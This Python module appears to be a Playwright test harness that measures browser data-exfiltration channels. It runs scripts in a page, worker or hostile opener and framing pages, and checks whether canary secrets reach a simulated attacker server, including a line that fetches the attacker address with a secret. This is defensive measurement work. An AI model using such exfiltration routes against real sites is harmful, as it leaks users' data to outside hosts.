"""One attack run: tries channels from one page and its worker, as an attacker whose code already runs there.

A channel is judged only by whether its canary arrives, and not by what its script returns. A page that has navigated
away or crashed cannot return anything.
"""

import json
import time
from collections.abc import Collection, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import BrowserContext, Error, Frame, Page, Worker
from waiting import until

from exfiltration.listeners.answers import AROUND, OPENER
from exfiltration.listeners.attacker import Attacker
from exfiltration.runs.canaries import Try, new_secret, tries
from exfiltration.runs.channels import SAID, SIGN, TRY, Channel
from exfiltration.runs.left_behind import find
from exfiltration.runs.site_host import BARE
from exfiltration.runs.targets import AttackedPage

# How long, in seconds, to wait for an expected canary: far above what a busy machine needs.
TIMEOUT = 20.0
# The longest time, in seconds, that a request from the page to the attacker takes on an idle machine.
USUAL_ROUND_TRIP_S = 0.05
# How often an expected channel is tried again if its canary did not arrive.
RETRIES = 2
# How many tabs are attacked at the same time.
PARALLEL_TABS = 4

# _CLEAR_AWAY is run between two channels. It undoes what a channel has changed in the page, and returns whether it is
# still the same page. A page that was reloaded or replaced does not have the mark that _MARK has set.
_MARK = "() => void (globalThis.attacked = true)"
_CLEAR_AWAY = """() => {
  for (const left of document.querySelectorAll("#cover, base")) left.remove();
  if (location.search) history.replaceState(null, "", location.pathname);
  return globalThis.attacked === true;
}"""


@dataclass
class AttackRun:
    """One attack run in one browser, on one page."""

    context: BrowserContext
    attacker: Attacker
    place: AttackedPage
    # The names of the channels that are expected to work. The run waits for their canaries.
    expected: Collection[str] = ()
    # How long to listen, in seconds, for canaries that are not expected: after many channels, and after a few.
    settle: float = 2.0
    settle_few: float = 0.4
    # Results: the longest time, in seconds, that a canary took to arrive. `said` has the result of each script. It
    # helps to find out why a channel does not work.
    slowest: float = field(default=0.0, init=False)
    # The largest factor by which listening was extended on a busy machine.
    stretch: float = field(default=1.0, init=False)
    results: dict[str, str] = field(default_factory=dict, init=False)
    _tried: list[Try] = field(default_factory=list, init=False)

    @property
    def arrived(self) -> set[str]:
        """Return the names of the channels whose canaries have arrived, however late."""
        received = self.attacker.received
        return {each.channel.name for each in self._tried if received.when(each.secret) is not None}

    def from_worker(self, worker: Worker, channels: Sequence[Channel]) -> None:
        """Try all channels that a worker may have."""
        for each in self._and_again([channel for channel in channels if channel.in_worker]):
            with self._tries(each) as tries:
                self._start(worker, tries)
                self._wait_until_said(worker, tries)
                find(self.context, self.place.second, self.attacker.address)
                self._listen(tries, self.settle)

    def from_page_and_elsewhere(self, page: Page, channels: Sequence[Channel]) -> None:
        """Try all channels that need neither a worker nor the service worker.

        First from a page that is ready, then by hostile pages that open it or embed it in a frame.
        """
        here = [
            channel
            for channel in channels
            if not channel.only_in_worker and channel.tried != "kept"
        ]
        for each in self._and_again(here):
            if page.is_closed():
                page = self.open(again=True)
            self.from_page(page, each)
            self.close_others()
            self.from_elsewhere(each)

    def from_page(self, page: Page, channels: Sequence[Channel]) -> None:
        """Try these channels in a page that is ready. Afterwards it may have navigated elsewhere or be closed."""
        tried = {
            manner: [
                channel
                for channel in channels
                if channel.tried == manner and not channel.only_in_worker
            ]
            for manner in ("together", "windows", "left", "alone", "click", "leaving", "last")
        }
        page.bring_to_front()
        _ask(page, _MARK)
        self._together(page, tried["together"])
        # Before the service worker controls the page: it sometimes loses requests that are sent while the page is left.
        self._leaving(page, tried["leaving"])
        if several := [*tried["windows"], *tried["left"]]:
            page = self._as_new(page)
            self._together(page, several)
        page = self._abreast(page, tried["alone"])
        for channel in tried["click"]:
            page = self._as_new(page)
            self.close_others(page)
            page.bring_to_front()
            self.alone(page, channel)
        for channel in tried["last"]:
            self.close_others()
            self.alone(self.open(again=True), channel)

    def from_elsewhere(self, channels: Sequence[Channel]) -> None:
        """Try the channels that need a hostile page, which opens this page or embeds it in a frame."""
        opened, framed = (
            [channel for channel in channels if channel.tried == manner]
            for manner in ("opened", "framed")
        )
        if opened:
            page = self._opened()
            for channel in opened:
                self.alone(page, channel)
            self.close_others()
        if framed and (frame := self._framed()):
            for channel in framed:
                self.alone(frame, channel)
            self.close_others()

    def from_kept(self, channels: Sequence[Channel]) -> None:
        """Try the channels that need the site's service worker. From now on the host serves it."""
        self.place.host.offer_service_worker()
        for each in self._and_again([channel for channel in channels if channel.tried == "kept"]):
            self._together(self.open(again=True), each)
            self.close_others()

    def alone(self, target: Page | Frame, channel: Channel) -> None:
        """Try one channel by itself."""
        with self._tries([channel]) as tries:
            self._start(target, tries)
            if channel.tried == "click" and isinstance(target, Page):
                self._wait_until_covered(target)
                target.mouse.click(200, 200)
            self._listen(tries, self.settle_few)

    def open(self, *, again: bool = False) -> Page:
        """Open the page in a new tab, and wait for `place.ready`, or with `again` for `place.ready_again`."""
        page = self.context.new_page()
        page.goto(self.place.address)
        (self.place.ready_again if again else self.place.ready)(page)
        return page

    def close_others(self, *pages: Page) -> None:
        """Close every page except these and the first one, from which `_knock` sends its request."""
        for other in self.context.pages[1:]:
            if other not in pages:
                other.close()

    def _opened(self) -> Page:
        opener = self.context.new_page()
        opener.goto(f"{self.attacker.address}{OPENER}?open={self.place.address}")
        with self.context.expect_page() as opened:
            opener.evaluate("open_it()")
        self.place.ready_again(opened.value)
        return opened.value

    def _framed(self) -> Frame | None:
        """Return the frame with the page, or None if the page refuses to be framed."""
        around = self.context.new_page()
        around.goto(f"{self.attacker.address}{AROUND}?open={self.place.address}")
        frame = around.frames[-1]
        if not frame.url.startswith(self.place.host.address):
            return None
        if frame.locator("[data-framed]").is_visible():
            return None
        self.place.ready_again(frame)
        return frame

    def _as_new(self, page: Page) -> Page:
        """Return a page in its first state: a new one if a channel has made this one navigate elsewhere."""
        with suppress(Error):
            if _ask_even_if_led_away(page, _CLEAR_AWAY):
                return page
        page.close()
        page = self.open(again=True)
        _ask(page, _MARK)
        return page

    def _together(self, page: Page, channels: Sequence[Channel]) -> None:
        if not channels:
            return
        with self._tries(channels) as tries:
            self._start(page, tries)
            self._wait_until_said(page, tries)
            if any(channel.tried in ("left", "kept") for channel in channels):
                find(self.context, self.place.second, self.attacker.address)
            self._listen(tries, self.settle)
        self.close_others(page)

    def _leaving(self, page: Page, channels: Sequence[Channel]) -> None:
        if not channels:
            return
        with self._tries(channels) as tries:
            self._start(page, tries)
            # These channels send when the page is left, so their scripts must be waiting before that.
            self._wait_until_said(page, tries)
            page.goto(self.place.second)
            self._listen(tries, self.settle)

    def _abreast(self, page: Page, channels: Sequence[Channel]) -> Page:
        """Try channels that may make a page navigate elsewhere, each in its own tab; return one of the tabs."""
        tabs = [page]
        for start in range(0, len(channels), PARALLEL_TABS):
            batch = channels[start : start + PARALLEL_TABS]
            self.close_others(*tabs)
            tabs = [self._as_new(tab) for tab in tabs]
            while len(tabs) < len(batch):
                tabs.append(self.open(again=True))
                _ask(tabs[-1], _MARK)
            with self._tries(batch) as tries:
                for tab, one in zip(tabs, tries, strict=False):
                    self._start(tab, [one])
                self._listen(tries, self.settle_few)
        return tabs[0]

    def _and_again(self, channels: Sequence[Channel]) -> Iterator[Sequence[Channel]]:
        """Yield these channels; then, up to RETRIES times, the expected ones whose canaries have not arrived.

        A browser sometimes drops or delays what it usually sends. This says nothing about the channel. The canary of a
        channel that is closed, or that never worked, does not arrive at the third try either.
        """
        yield channels
        for _ in range(RETRIES):
            arrived = self.arrived
            missed = [
                channel
                for channel in channels
                if channel.name in self.expected and channel.name not in arrived
            ]
            if missed:
                yield missed

    @contextmanager
    def _tries(self, channels: Sequence[Channel]) -> Iterator[list[Try]]:
        with tries(channels, self.attacker, self.place.host.address) as all_tries:
            self._tried += all_tries
            self.place.host.signs[:] = [
                each.secret for each in all_tries if each.channel.name == SIGN
            ]
            yield all_tries

    def _start(self, target: Page | Frame | Worker, tries: Sequence[Try]) -> None:
        pairs = [[each.channel.name, each.goal] for each in tries]
        if len(tries) == 1 and isinstance(target, Page):
            _ask_even_if_led_away(target, TRY, pairs)
        else:
            _ask(target, TRY, pairs)

    def _wait_until_covered(self, page: Page) -> None:
        covered = "() => document.getElementById('cover') !== null"
        until(page, lambda: _ask_even_if_led_away(page, covered))

    def _wait_until_said(self, target: Page | Worker, tries: Sequence[Try]) -> None:
        """Wait until each channel's script has ended or timed out. Some store data for the second page to find."""

        def results() -> dict[str, str]:
            state: dict[str, str] = _ask(target, SAID)
            return state if len(state) == len(tries) else {}

        self.results |= until(self.context.pages[0], results)

    def _listen(self, tries: Sequence[Try], settle: float) -> None:
        """Wait for the expected canaries, then `settle` seconds, or longer on a busy machine, for the others."""
        received = self.attacker.received
        start = time.monotonic()
        received.wait_for(
            [each.secret for each in tries if each.channel.name in self.expected], TIMEOUT
        )
        rest = [each.secret for each in tries if each.channel.name not in self.expected]
        stretch = self._knock()
        if rest:
            received.wait_for(rest, settle * stretch)
        self.stretch = max(self.stretch, stretch)
        times = [when for each in tries if (when := received.when(each.secret)) is not None]
        self.slowest = max(self.slowest, *(when - start for when in times), 0.0)

    def _knock(self) -> float:
        """Send a request from the same browser, and check that it arrives.

        Without this proof that requests arrive, a missing canary would prove nothing.

        Return the factor by which to listen longer than on an idle machine, at least 1.
        """
        secret = new_secret("knock")
        page = self.context.pages[0]
        if not page.url.endswith(BARE):
            page.goto(f"{self.place.host.address}{BARE}")
        start = time.monotonic()
        _ask(page, "address => void fetch(address)", f"{self.attacker.address}/{secret}")
        assert self.attacker.received.wait_for([secret], TIMEOUT), (
            "the attacker's server did not receive the test request"
        )
        return max(1.0, (time.monotonic() - start) / USUAL_ROUND_TRIP_S)


def _ask(target: Page | Frame | Worker, script: str, about: object = None) -> Any:
    """Run a script, a function of one argument, in the target; return what it returns.

    In a page or frame, run it by a locator of the root element, because `page.evaluate` has no timeout.
    """
    if isinstance(target, Worker):
        return target.evaluate(script, about)
    function = f"(_, about) => ({script})(about)"
    return target.locator("html").evaluate(function, about, timeout=TIMEOUT * 1000)


def _ask_even_if_led_away(page: Page, script: str, about: object = None) -> Any:
    """Do the same by the DevTools protocol.

    Once a navigation was stopped halfway, Playwright treats the page as one that is still navigating.
    """
    session = page.context.new_cdp_session(page)
    call = f"({script})({json.dumps(about)})"
    parameters = {"expression": call, "returnByValue": True, "userGesture": True}
    return session.send("Runtime.evaluate", parameters)["result"].get("value")
